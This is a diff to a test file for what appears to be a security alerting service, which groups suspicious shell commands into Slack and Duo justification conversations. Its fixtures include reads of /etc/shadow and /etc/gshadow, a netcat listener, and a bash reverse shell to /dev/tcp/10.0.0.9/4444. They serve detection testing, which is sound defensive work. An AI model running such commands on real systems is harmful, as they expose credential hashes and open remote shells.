@@ -74,6 +74,56 @@ describe('conversations, not alerts', () => {
     expect(attack.conversation_id).toBe(attack.id);
   });
 
+  it('an answer covers what the form showed: a later hit of another session is asked next, one of the same session is covered', async () => {
+    h.runCommand(ALICE, ['cat', '/etc/shadow'], { session: 5, host: 'db-1' });
+    await h.settle();
+    const [lead] = await h.alerts();
+    const pushed = h.duo.nextPush('alice');
+    await h.click(ALICE, lead!, 'vouch.confirm');
+    await waitFor(() => h.slack.openViews(ALICE.slackId).find((v) => v.open), 'the form');
+    await h.advance(1000);
+    // After the form opened: the same shape on another host in another session joins by shape,
+    // and a hit of the same session joins by session; neither was on the form.
+    h.runCommand(ALICE, ['cat', '/etc/gshadow'], { session: 99, host: 'db-2' });
+    h.runCommand(ALICE, ['tcpdump', '-i', 'eth0'], { session: 5, host: 'db-1' });
+    await h.settle();
+    await h.justify(ALICE, 'Checking the shadow file after the migration');
+    // While the push is out, another hit of the same session joins too (read without running jobs).
+    h.runCommand(ALICE, ['nc', '-l', '4444'], { session: 5, host: 'db-1' });
+    for (const source of h.service.sources) await source.runOnce();
+    expect((await h.alerts()).every((a) => a.conversation_id === lead!.id)).toBe(true);
+    h.duo.respond((await pushed).txid, 'allow');
+    await waitFor(async () => (await h.alert(lead!.id)).status === 'verified', 'verified');
+    await h.settle();
+    const alerts = await h.alerts();
+    const byCommand = new Map(alerts.map((a) => [a.command, a]));
+    expect(byCommand.get('tcpdump -i eth0')).toMatchObject({ status: 'verified', conversation_id: lead!.id });
+    expect(byCommand.get('nc -l 4444')).toMatchObject({ status: 'verified', conversation_id: lead!.id });
+    const separate = byCommand.get('cat /etc/gshadow')!;
+    expect(separate).toMatchObject({ status: 'asked' });
+    expect(separate.conversation_id).toBe(separate.id);
+    expect(questions()).toHaveLength(2);
+    expect(messageText(questions()[1]!)).toContain('cat /etc/gshadow');
+  });
+
+  it('the same command from another session while its question is open is a member of its own, shown on the question', async () => {
+    h.runCommand(ALICE, ['less', '/etc/shadow'], { session: 7 });
+    await h.settle();
+    const [lead] = await h.alerts();
+    h.runCommand(ALICE, ['less', '/etc/shadow'], { session: 666 });
+    await h.settle();
+    const alerts = await h.alerts();
+    expect(alerts).toHaveLength(2);
+    expect(alerts.every((a) => a.conversation_id === lead!.id)).toBe(true);
+    expect(alerts.map((a) => a.occurrences)).toEqual([1, 1]);
+    expect(questions()).toHaveLength(1);
+    expect(questions()[0]!.edits.length).toBeGreaterThan(0);
+    // The same session again folds into its member.
+    h.runCommand(ALICE, ['less', '/etc/shadow'], { session: 7 });
+    await h.settle();
+    expect((await h.alerts()).map((a) => a.occurrences).sort()).toEqual([1, 2]);
+  });
+
   it('repeats of an escalated conversation: no new DM, one reply in the channel thread', async () => {
     h.runCommand(ALICE, ['bash', '-i', '>&', '/dev/tcp/10.0.0.9/4444', '0>&1'], { session: 8 });
     await h.settle();
